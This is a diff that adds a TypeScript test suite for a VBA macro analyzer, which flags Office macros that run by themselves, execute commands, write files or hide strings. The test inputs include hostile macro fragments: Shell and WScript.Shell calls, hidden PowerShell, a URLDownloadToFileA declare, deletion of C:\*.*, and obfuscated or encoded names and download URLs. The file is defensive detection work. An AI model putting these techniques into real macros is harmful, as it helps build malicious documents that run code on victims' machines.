@@ -1,0 +1,307 @@
+import * as fc from "fast-check"
+import { describe, expect, it } from "vitest"
+import { analyzeVba, type VbaAnalysis } from "../../../../core/documents/vba/AnalyzeVba.ts"
+
+const analyze = (...sources: ReadonlyArray<string>): VbaAnalysis =>
+  analyzeVba(sources.map((source, at) => ({ name: `Module${at + 1}`, source })))
+
+const onOpen = (body: string, more = ""): VbaAnalysis => analyze(`Sub AutoOpen()\n${body}\nEnd Sub\n${more}`)
+
+describe("code", () => {
+  it.each([
+    "",
+    "Attribute VB_Name = \"Module1\"\r\nAttribute VB_Base = \"0{1}\"",
+    "Option Explicit\nOption Compare Text\n",
+    "' Shell \"cmd.exe\"\nRem and so on\n",
+    "' a remark _\nShell \"cmd.exe\"\n",
+    "#If VBA7 Then\n#End If\n"
+  ])("is not there in %j", (source) => {
+    expect(analyze(source)).toMatchObject({ hasCode: false, hasProcedures: false, executes: [] })
+  })
+
+  it("is not there in empty procedures", () => {
+    expect(analyze("Private Sub Frame1_Click()\r\n\r\nEnd Sub")).toMatchObject({ hasCode: false, hasProcedures: true })
+    expect(analyze("Sub a()\r\n  MsgBox 1\r\nEnd Sub").hasCode).toBe(true)
+    expect(analyze("Public Rate As Double").hasCode).toBe(true)
+  })
+
+  it("may have its lines end in any way", () => {
+    for (const end of ["\r\n", "\n", "\r"]) {
+      const source = ["Sub AutoOpen()", "Shell \"calc\"", "End Sub"].join(end)
+      expect(analyze(source)).toMatchObject({ autoRuns: ["AutoOpen"], automatic: ["Shell"] })
+    }
+  })
+})
+
+describe("what runs by itself", () => {
+  it.each([
+    "Sub AutoOpen()",
+    "sub autoopen",
+    "Private Sub Document_Open()",
+    "Public Static Function Auto_Open() As String",
+    "Private Sub Workbook_BeforeClose(Cancel As Boolean)",
+    "Private Sub Workbook_WindowActivate(ByVal Wn As Window)",
+    "Private Sub Frame1_Layout(ByVal Index As Long)",
+    "Private Sub InkEdit1_GotFocus()",
+    "Sub _\n  AutoOpen _\n  ()",
+    "Dim x: Sub AutoExec()"
+  ])("is the procedure %j", (header) => {
+    expect(analyze(`${header}\nMsgBox 1\nEnd Sub`).autoRuns).toHaveLength(1)
+  })
+
+  it.each([
+    "Private Sub CommandButton1_Click()",
+    "Private Sub TextBox1_Change()",
+    "Sub MyAutoOpen()",
+    "' Sub AutoOpen()",
+    "s = \"Sub AutoOpen()\"",
+    "Declare Sub AutoOpen Lib \"user32\" ()",
+    "Exit Sub: AutoOpen"
+  ])("is not %j", (header) => {
+    expect(analyze(`${header}\nMsgBox 1\nEnd Sub`).autoRuns).toEqual([])
+  })
+
+  it("is nothing that is empty", () => {
+    expect(analyze("Private Sub Workbook_Open()\n' later\nEnd Sub").autoRuns).toEqual([])
+  })
+
+  it("is Main of a module that Word runs, and no event of a form", () => {
+    const main = { name: "AutoExec", source: "Sub Main()\nMsgBox 1\nEnd Sub" }
+    expect(analyzeVba([main]).autoRuns).toEqual(["Main"])
+    expect(analyzeVba([{ ...main, name: "Module1" }]).autoRuns).toEqual([])
+    const form =
+      "Attribute VB_Base = \"0{6CAEBC20-86AE}{132E3DFC-465C}\"\nPrivate Sub Frame1_Layout()\nMsgBox 1\nEnd Sub"
+    expect(analyze(form).autoRuns).toEqual([])
+  })
+})
+
+describe("what it does", () => {
+  it.each([
+    ["Shell \"calc\"", "Shell"],
+    ["x = VBA.Shell(\"calc\", 0)", "Shell"],
+    ["If 1 Then Shell _\n \"calc\" Else Beep", "Shell"],
+    ["[Shell] \"calc\"", "Shell"],
+    ["CreateObject(\"WScript.Shell\").Run \"calc\"", "CreateObject(\"WScript.Shell\")"],
+    ["Set o = CreateObject(x)", "CreateObject"],
+    [
+      "Set o = GetObject(\"new:13709620-C279-11CE-A49E-444553540000\")",
+      "GetObject(\"new:13709620-C279-11CE-A49E-444553540000\")"
+    ],
+    ["GetObject(\"winmgmts:\").Get(\"Win32_Process\").Create c", "Win32_Process"],
+    ["Dim w As New WshShell\nw.Exec c", "wshshell"],
+    ["o.Run \"powershell -w hidden\"", ".Run"],
+    ["CallByName o, m, 1, c", "CallByName"],
+    ["ExecuteExcel4Macro \"EXEC(\"\"calc\"\")\"", "ExecuteExcel4Macro"],
+    ["o.ShellExecute f", "ShellExecute"],
+    ["ActiveDocument.FollowHyperlink \"C:\\a.exe\"", "FollowHyperlink"],
+    ["ActiveDocument.AttachedTemplate = \"http://a.example/t.dotm\"", "AttachedTemplate"]
+  ])("executes: %j", (body, name) => {
+    expect(onOpen(body)).toMatchObject({
+      executes: expect.arrayContaining([name]),
+      automatic: expect.arrayContaining([name])
+    })
+  })
+
+  it.each([
+    ["Open Environ(\"TEMP\") & \"\\a.exe\" For Binary As #1", "Open For Binary"],
+    ["Open f For Output Access Write As #1", "Open For Output"],
+    ["FileCopy a, b", "FileCopy"],
+    ["Kill \"C:\\*.*\"", "Kill"],
+    ["s.SaveToFile \"a.exe\", 2", "SaveToFile"],
+    ["fso.CreateTextFile(\"a.vbs\")", "CreateTextFile"],
+    ["fso.OpenTextFile \"a.vbs\", ForWriting", "OpenTextFile"],
+    ["w.RegWrite k, v", "RegWrite"],
+    ["m.InsertLines 1, c", "InsertLines"]
+  ])("writes: %j", (body, name) => {
+    expect(onOpen(body)).toMatchObject({ writes: [name], automatic: [name] })
+  })
+
+  it.each([
+    "MsgBox \"Hello\"",
+    "Call MySub",
+    "Application.OnTime Now + TimeValue(\"00:00:05\"), \"MySub\"",
+    "Application.Run \"MySub\"",
+    "Application.Run \"'\" & ThisWorkbook.Name & \"'!MySub\"",
+    "Sheets(1).Activate",
+    "ActiveWorkbook.SaveAs \"Report.xlsx\"",
+    "MkDir p: SetAttr p, vbHidden: SaveSetting a, b, c, d",
+    "Set d = CreateObject(\"Scripting.Dictionary\")",
+    "Set c = CreateObject(\"ADODB.Connection\"): c.Execute \"select 1\"",
+    "Set f = CreateObject(\"Scripting.FileSystemObject\").OpenTextFile(\"a.txt\", ForReading)",
+    "Set x = GetObject(, \"Excel.Application\")",
+    "Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\"): w.ExecQuery \"Select * from Win32_Processor\"",
+    "ExecuteExcel4Macro \"SHOW.TOOLBAR(\"\"Ribbon\"\",False)\"",
+    "CallByName frm, \"Caption\", VbLet, \"x\"",
+    "Open ThisWorkbook.Path & \"\\log.txt\" For Append As #1",
+    "Open f For Input As #1",
+    "ActiveWorkbook.FollowHyperlink \"https://example.org/help\"",
+    "Dim Shell As Object: Set Shell = x: Shell.Visible = True",
+    "solver.Run 5",
+    "Beep ' Shell \"calc\"",
+    "s = \"Shell calc\"",
+    "SendKeys \"{ESC}\""
+  ])("is ordinary: %j", (body) => {
+    expect(onOpen(body, "Sub MySub()\nBeep\nEnd Sub")).toMatchObject({
+      autoRuns: ["AutoOpen"],
+      writes: [],
+      executes: [],
+      automatic: [],
+      isObfuscated: false
+    })
+  })
+
+  it("counts functions of libraries when they are called, by what they are called there", () => {
+    const declare =
+      "Private Declare PtrSafe Function g Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long) As Long\n"
+    expect(analyze(`${declare}Sub AutoOpen()\nx = g(0)\nEnd Sub`).automatic).toEqual(["Declare URLDownloadToFileA"])
+    expect(analyze(`${declare}Sub AutoOpen()\nBeep\nEnd Sub`)).toMatchObject({
+      writes: ["Declare URLDownloadToFileA"],
+      automatic: []
+    })
+    const sleep = "Declare Sub Sleep Lib \"kernel32\" (ByVal ms As Long)\nSub AutoOpen()\nSleep 5\nEnd Sub"
+    expect(analyze(sleep)).toMatchObject({ writes: [], executes: [] })
+    expect(analyze("Declare Function f Lib \"kernel32\" Alias \"#963\" (a)").executes).toHaveLength(1)
+    expect(analyze("Declare Function f Lib \"shell32\" Alias \"#62\" (a)").executes).toEqual([])
+  })
+})
+
+describe("what runs by itself comes to", () => {
+  const button = "Private Sub CommandButton1_Click()\nFileCopy a, b\nShell \"calc\"\nEnd Sub\n"
+
+  it("nothing behind a button", () => {
+    const found = onOpen("Sheets(1).Activate", button)
+    expect(found).toMatchObject({ autoRuns: ["AutoOpen"], writes: ["FileCopy"], executes: ["Shell"], automatic: [] })
+  })
+
+  it.each([
+    "Go",
+    "Call Module2.Go(1)",
+    "x = 1 + Go()",
+    "Application.OnTime Now, \"Module2.Go\"",
+    "Application.Run \"G\" & \"o\"",
+    "Application.Run Cells(1, 1)",
+    "CallByName Me, \"Go\", VbMethod",
+    "Dim c As New Module3"
+  ])("what it calls by %j", (body) => {
+    const go = "Sub Go()\nShell \"calc\"\nEnd Sub"
+    const made = "Private Sub Class_Initialize()\nModule2.Go\nEnd Sub"
+    expect(analyze(`Sub AutoOpen()\n${body}\nEnd Sub`, go, made).automatic).toContain("Shell")
+  })
+
+  it("events that it brings about", () => {
+    const change = "Private Sub Worksheet_Change(ByVal t As Range)\nShell \"calc\"\nEnd Sub"
+    expect(onOpen("Cells(1, 1) = 1", change).automatic).toEqual(["Shell"])
+    expect(analyze(change).automatic).toEqual([])
+  })
+})
+
+describe("texts", () => {
+  it.each([
+    ["x = \"WScr\" & \"ipt.Sh\" + \"ell\"", "names of programs put together from pieces"],
+    ["x = \"WScr\"\nx = x & \"ipt.Sh\"\nx = x & \"ell\"", "names of programs put together from pieces"],
+    ["x = Chr(87) & ChrW(&H53) & Chr$(99) & \"ript.Shell\"", "names of programs put together from pieces"],
+    ["x = Chr(90 - 3) & Chr(80 Xor 3) & \"cript.Shell\"", "names of programs put together from pieces"],
+    ["x = Replace(\"WZZScZZript.SZZhell\", \"ZZ\", \"\")", "names of programs put together from pieces"],
+    ["x = Join(Array(\"WScript\", \"Shell\"), \".\")", "names of programs put together from pieces"],
+    ["x = Mid(\"aaWScripT\", 3) & LCase(\".SHELL\")", "names of programs put together from pieces"],
+    ["x = Part() & \"ipt.Shell\"", "names of programs put together from pieces"],
+    ["x = StrReverse(\"llehS.tpircSW\")", "names of programs put together from pieces"],
+    ["x = Turn(\"llehS.tpircSW\")", "texts written backwards"],
+    ["x = Decode(\"575363726970742e5368656c6c\")", "texts in hexadecimal digits"],
+    ["x = Decode(\"V1NjcmlwdC5TaGVsbA==\")", "texts in base64"],
+    ["x = \"W^Scr^ipt.S^hell\"", "names of programs with marks between their letters"],
+    ["x = Array(87, 83, 99, 114, 105, 112, 116, 46, 83, 104, 101, 108, 108)", "texts as lists of numbers"]
+  ])("hide a name: %j", (body, obfuscation) => {
+    const found = onOpen(body, "Function Part()\nPart = \"WScr\"\nEnd Function")
+    expect(found).toMatchObject({
+      stringCalls: ["wscript.shell"],
+      automatic: ["wscript.shell"],
+      isObfuscated: true,
+      obfuscation
+    })
+  })
+
+  it("that stand there for all to read hide nothing", () => {
+    expect(onOpen("x = \"powershell\"")).toMatchObject({
+      stringCalls: ["powershell"],
+      automatic: [],
+      isObfuscated: false
+    })
+    expect(onOpen("x = \"The shell of an egg, and a schtick\"").stringCalls).toEqual([])
+  })
+
+  it("hold addresses, also in pieces and encoded", () => {
+    expect(onOpen("x = \"ht\" & \"tp://a.exa\" & \"mple/b.exe\"").urls).toEqual(["http://a.example/b.exe"])
+    expect(onOpen("x = D(\"aHR0cDovL2EuZXhhbXBsZS9iLmV4ZQ==\")").urls).toEqual(["http://a.example/b.exe"])
+    expect(onOpen("x = \"exe.b/elpmaxe.a//:ptth\"").urls).toEqual(["http://a.example/b.exe"])
+    expect(onOpen("x = \"http://schemas.microsoft.com/office\" ' http://a.example/").urls).toEqual([])
+  })
+})
+
+describe("a source that nobody can read", () => {
+  const random = "qxzvkw jhgpqz wvbnxk zzqtrp mkljhv xcvbqw prtghj vbnmzx lkjhgq wzxcvb qwrtzp hjklvb".split(" ")
+
+  it("has names of random letters", () => {
+    const source = random.map((name) => `Dim ${name}${name}abc As String`).join("\n")
+    expect(analyze(source).obfuscation).toBe("names of random letters")
+  })
+
+  it.each([
+    "customerName invoiceTotal lastRow firstColumn sheetName reportDate outputPath userId rowCount isValid totalAmount taxRate headerCell",
+    "kundenName rechnungsBetrag letzteZeile ersteSpalte tabellenBlatt berichtsDatum ausgabePfad anzahlZeilen istGueltig steuerSatz kopfZelle bereich",
+    "nomClient montantFacture derniereLigne premiereColonne feuilleCalcul dateRapport cheminSortie nombreLignes estValide tauxTaxe celluleEntete plage",
+    "nombreCliente importeFactura ultimaFila primeraColumna hojaCalculo fechaInforme rutaSalida numeroFilas esValido tasaImpuesto celdaEncabezado rango",
+    "nazwaKlienta kwotaFaktury ostatniWiersz pierwszaKolumna arkuszDanych dataRaportu sciezkaWyjscia liczbaWierszy czyPoprawny stawkaPodatku naglowek zakres",
+    "strName lngRow intCol dblSum wsSrc wbDst rngTgt arrData objDict blnFlag dtmStart varTmp cnnDb rstData"
+  ])("has not those of people: %s", (names) => {
+    const source = names.split(" ").map((name) => `Dim ${name} As String`).join("\n")
+    expect(analyze(source.repeat(2)).obfuscation).toBeNull()
+  })
+
+  it("makes its letters of numbers", () => {
+    expect(onOpen(`x = ${"Chr(n) & Chr(100) & Chr(101) & ".repeat(12)}""`).obfuscation).toBe(
+      "texts made of single characters"
+    )
+    expect(onOpen(`x = ${"Chr(13) & Chr(10) & Chr(34) & ".repeat(50)}""`).obfuscation).toBeNull()
+  })
+})
+
+describe("time", () => {
+  const chars = 1_000_000
+  const filled = (before: string, piece: string): string =>
+    `Sub AutoOpen()\n${before}${piece.repeat(Math.ceil(chars / piece.length))}`
+
+  it.each([
+    ["a chain of texts", filled("x = ", "\"a\" & ")],
+    ["open brackets", filled("x = ", "(")],
+    ["nested calls", filled("x = ", "StrReverse(")],
+    ["continued lines", filled("x = ", " _\n")],
+    ["underscores and blanks", filled("x = ", `_${" ".repeat(999)}`)],
+    ["texts that grow", filled("", "s = s & \"abcdefgh\"\nf s\n")],
+    ["copies of a long text", filled(`a = "${"x".repeat(60_000)}"\n`, "b = a & 1\n")],
+    ["a long text turned round again and again", filled(`a = "${"xy".repeat(30_000)}"\n`, "b = StrReverse(a)\n")],
+    ["texts that double", filled("a = \"x\"\n", "a = a & a\n")],
+    ["square brackets", filled("", "[")],
+    ["procedures of one name", filled("", "End Sub\nSub a()\na\n")],
+    ["quotes", filled("", "\"")],
+    ["a long address", filled("x = \"", "http://")]
+  ])("is that of the length, for %s", (_, source) => {
+    const started = performance.now()
+    analyze(source)
+    expect(performance.now() - started).toBeLessThan(8_000)
+  })
+
+  it("is bounded, and nothing is thrown, for whatever is there", () => {
+    const pieces = fc.constantFrom(
+      ..."Sub ( ) _\n \n : , . & + \" ' = x Chr( 65 Shell CreateObject( Array( Split( Const Dim Open For Output As # [ ] ! Declare Lib Then Else End_Sub Rem := -"
+        .split(" ").map((piece) => piece.replace("_S", " S"))
+    )
+    fc.assert(
+      fc.property(fc.array(pieces, { maxLength: 80 }), (parts) => {
+        const found = analyze(parts.join(" "), parts.join(""))
+        expect(found.isObfuscated).toBe(found.obfuscation !== null)
+      }),
+      { numRuns: 500 }
+    )
+  })
+})
